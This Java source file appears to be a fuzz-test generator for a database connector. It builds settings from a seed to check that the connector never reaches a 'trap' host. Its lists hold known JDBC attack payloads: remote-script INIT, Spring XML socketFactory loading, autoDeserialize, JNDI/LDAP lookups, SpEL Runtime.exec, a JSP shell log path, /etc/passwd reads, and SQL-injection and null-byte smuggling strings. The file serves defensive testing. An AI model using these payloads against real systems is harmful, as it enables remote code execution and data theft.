package vn.lienthong.connector;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;

/** Settings of a database connector that try to reach its driver as more than what they are; made from rules and a seed. */
final class JdbcPayloads {
    private static final List<String> OPTIONS = List.of(
            "allowLoadLocalInfile=true",
            "allowLocalInfile=true",
            "allowUrlInLocalInfile=true",
            "autoDeserialize=true",
            "queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
            "statementInterceptors=x",
            "detectCustomCollations=true",
            "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
            "socketFactoryArg=http://TRAP/a.xml",
            "sslfactory=org.springframework.context.support.FileSystemXmlApplicationContext",
            "sslfactoryarg=http://TRAP/a.xml",
            "sslhostnameverifier=x",
            "sslpasswordcallback=x",
            "authenticationPluginClassName=x",
            "jaasLogin=true",
            "kerberosServerName=x",
            "loggerLevel=TRACE",
            "loggerFile=/tmp/shell.jsp",
            "options=-c%20session_preload_libraries=x",
            "currentSchema=pg_catalog",
            "replication=true",
            "targetServerType=any",
            "hostRecheckSeconds=0",
            "loadBalanceHosts=true",
            "serverSslCert=/etc/passwd",
            "sslrootcert=/etc/passwd",
            "sslkey=/etc/passwd",
            "sslMode=disable",
            "allowMultiQueries=true",
            "permitRedirect=true",
            "allowPublicKeyRetrieval=true",
            "createDatabaseIfNotExist=true",
            "localSocket=/var/run/mysqld.sock",
            "pipe=x",
            "keyStore=http://TRAP/k",
            "trustStore=http://TRAP/t",
            "credentialType=GSSAPI",
            "initSql=select sys_exec('id')",
            "sessionVariables=local_infile=1",
            "INIT=RUNSCRIPT FROM 'http://TRAP/a.sql'",
            "TRACE_LEVEL_SYSTEM_OUT=3",
            "profileSQL=true",
            "useSSL=false",
            "serverTimezone=x",
            "connectionAttributes=_checked_address:7f000001");
    private static final List<String> WHOLE = List.of(
            "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://TRAP/a.sql'",
            "jdbc:postgresql://TRAP/x?",
            "jdbc:mariadb://TRAP/x?",
            "jdbc:mysql://(host=TRAP,autoDeserialize=true)/x",
            "jdbc:derby:x;create=true",
            "jdbc:sqlite:/etc/passwd",
            "jdbc:hsqldb:res:x",
            "(address=(protocol=tcp)(host=TRAP))",
            "address=(host=TRAP)(port=1)",
            "[(host=TRAP),(host=TRAP)]",
            "//TRAP/x",
            "http://TRAP/x",
            "file:///etc/passwd",
            "ldap://TRAP/x",
            "rmi://TRAP/x",
            "@TRAP",
            "x@TRAP",
            "127.0.0.1,TRAP",
            "TRAP,127.0.0.1",
            "TRAP",
            "sequential://TRAP",
            "loadbalance:TRAP",
            "${jndi:ldap://TRAP/x}",
            "${LIENTHONG_VAR_X:TRAP}",
            "${secret:other/password}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "../../../etc/passwd",
            "x\u0000replication\u0000database",
            "x\u0000options\u0000-c session_preload_libraries=x",
            "x'; drop table pupils; --",
            "x\"; drop database smas; --",
            "[fe80::1%lo]",
            "fe80::1%25lo",
            "::1%lo",
            "/var/run/postgresql");
    private static final List<String> SEPARATORS = List.of(
            "?", "&", ";", ",", ":", "#", "/", "//", "/?", "\\", "%3F", "%26", "%3b", "%00", "%0d%0a", "\r\n", "\n",
            "\r", "\u0000", "\t", " ", "\u00a0", "\uff1f", "\uff06", "\uff1b", "\u2028", "\u200b", "\u202e", "\u0001",
            "\u007f", "\u0085", "/smas?", "'?", "\"?", ")?", "?&", "&amp;");
    private static final List<String> FIELDS =
            List.of("database", "username", "host", "port", "schemas", "tls", "ca_certificate", "silence_seconds");

    private final Random random;
    private final String trap;
    private final int good;

    /**
     * @param trap host and port where nobody may ever knock
     * @param good the port on 127.0.0.1 that the connector may reach
     */
    JdbcPayloads(long seed, String trap, int good) {
        this.random = new Random(seed);
        this.trap = trap;
        this.good = good;
    }

    /** The settings of one connector, and which of them was bent. */
    record Payload(String type, String field, Map<String, Object> settings) {}

    List<Payload> some(int wanted) {
        Set<Payload> made = new LinkedHashSet<>();
        while (made.size() < wanted) {
            made.add(one());
        }
        return new ArrayList<>(made);
    }

    private Payload one() {
        String type = random.nextBoolean() ? "postgresql" : "mariadb";
        Map<String, Object> settings = new LinkedHashMap<>();
        settings.put("host", "127.0.0.1");
        settings.put("port", good);
        settings.put("database", "smas");
        settings.put("username", "hub_reader");
        settings.put("password", "${secret:corpus/password}");
        if (random.nextInt(10) == 0) {
            String option = pick(OPTIONS);
            String key = option.substring(0, option.indexOf('='));
            settings.put(key, bent(option.substring(option.indexOf('=') + 1)));
            return new Payload(type, key, settings);
        }
        String field = pick(FIELDS);
        String text = bent(text(String.valueOf(settings.getOrDefault(field, "x"))));
        settings.put(
                field,
                switch (field) {
                    case "port", "silence_seconds" -> number(text);
                    case "schemas" -> List.of(text);
                    case "ca_certificate" -> random.nextBoolean() ? text : "-----BEGIN CERTIFICATE-----" + text;
                    default -> text;
                });
        return new Payload(type, field, settings);
    }

    private String text(String plain) {
        return switch (random.nextInt(5)) {
            case 0 -> pick(WHOLE);
            case 1 -> plain + pick(SEPARATORS) + pick(WHOLE);
            case 2 -> plain + pick(SEPARATORS) + pick(OPTIONS) + "&" + pick(OPTIONS);
            default -> plain + pick(SEPARATORS) + pick(OPTIONS);
        };
    }

    private Object number(String text) {
        return switch (random.nextInt(6)) {
            case 0 -> good + text;
            case 1 -> -1 - random.nextInt(70_000);
            case 2 -> 65_536L + random.nextInt(1 << 30);
            case 3 -> good + 0.5;
            case 4 -> List.of(good, trap);
            default -> text;
        };
    }

    /** The text, sometimes written in yet another way. */
    private String bent(String plain) {
        String text = plain.replace("TRAP", trap);
        return switch (random.nextInt(8)) {
            case 0 -> text.replace("=", "%3D").replace(".", "%2e");
            case 1 -> text.replace('.', '\u3002');
            case 2 -> text.toUpperCase(java.util.Locale.ROOT);
            case 3 -> text + pick(SEPARATORS);
            case 4 -> text + "a".repeat(random.nextInt(20_000));
            default -> text;
        };
    }

    private String pick(List<String> from) {
        return from.get(random.nextInt(from.size()));
    }
}
